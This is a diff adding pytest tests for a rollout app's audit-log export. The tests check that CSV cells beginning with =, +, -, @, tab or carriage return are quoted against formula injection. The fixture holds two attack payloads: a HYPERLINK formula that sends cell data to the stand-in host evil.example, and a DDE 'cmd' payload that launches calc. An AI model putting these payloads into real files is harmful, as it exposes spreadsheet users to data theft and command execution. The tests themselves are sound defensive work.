@@ -168,3 +168,69 @@ def test_free_text_treats_wildcards_literally(edge, viewer):
     entries = client.get(reverse("rollout:audit"), {"q": "50%"}).context["entries"]
     assert [entry.reason for entry in entries] == ["raised to 50% after review"]
     assert client.get(reverse("rollout:audit"), {"q": "5_0"}).context["entries"] == []
+
+
+# --- formulas in the CSV export --------------------------------------------------------------
+
+LEADING = ["=", "+", "-", "@", "\t", "\r"]
+# Every exported text column whose value a person (or an outside system) can choose.
+PERSON_TEXT = ["actor_label", "environment", "object_id", "reason", "detail", "request_id"]
+
+
+def _entry_starting_with(edge, index, lead):
+    from types import SimpleNamespace
+
+    from rollout.models import Environment, Service
+
+    service = Service.objects.create(name=f"{lead}svc{index}")
+    environment = Environment.objects.create(
+        service=service,
+        name="production",
+        cloudflare_account_id="a",
+        kv_namespace_id="n",
+        qa_url="http://127.0.0.1/api/qa",
+    )
+    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1,"open")'
+    return audit.record(
+        action="config.note",
+        system=f"{lead}bot",
+        environment=environment,
+        obj=SimpleNamespace(public_id=f"{lead}obj"),
+        reason=payload,
+        detail=f"{lead}cmd|' /C calc'!A0",
+        after={"note": payload},
+        request=SimpleNamespace(request_id=f"{lead}req", META={}),
+    )
+
+
+@pytest.mark.parametrize("lead", LEADING, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(edge, viewer, lead):
+    entry = _entry_starting_with(edge, 0, lead)
+    export = reverse("rollout:audit_export", args=["csv"])
+    records = list(csv.DictReader(io.StringIO(_body(client_for(viewer).get(export)), newline="")))
+    record = next(item for item in records if item["id"] == str(entry.pk))
+    expected = {column: "'" + str(getattr(entry, column, "")) for column in PERSON_TEXT}
+    expected["environment"] = "'" + str(entry.environment)
+    assert {column: record[column] for column in PERSON_TEXT} == expected
+    assert record["after"].startswith("{")  # a JSON object cannot run
+
+
+@pytest.mark.parametrize("lead", LEADING, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_json_export_keeps_the_same_text_exact(edge, viewer, lead):
+    entry = _entry_starting_with(edge, 0, lead)
+    export = reverse("rollout:audit_export", args=["json"])
+    documents = json.loads(_body(client_for(viewer).get(export)))
+    document = next(item for item in documents if item["id"] == entry.pk)
+    assert document["reason"] == entry.reason and document["detail"] == entry.detail
+    assert document["actor_label"] == f"{lead}bot" and document["after"] == entry.after
+
+
+def test_a_plain_negative_number_stays_a_number_in_csv(edge, viewer):
+    entry = audit.record(
+        action="config.note", system="test", reason="-5", detail="-1+2", before=-3, after=-2.5
+    )
+    export = reverse("rollout:audit_export", args=["csv"])
+    records = list(csv.DictReader(io.StringIO(_body(client_for(viewer).get(export)))))
+    record = next(item for item in records if item["id"] == str(entry.pk))
+    assert (record["reason"], record["before"], record["after"]) == ("-5", "-3", "-2.5")
+    assert record["detail"] == "'-1+2"  # a formula, though it starts like a number
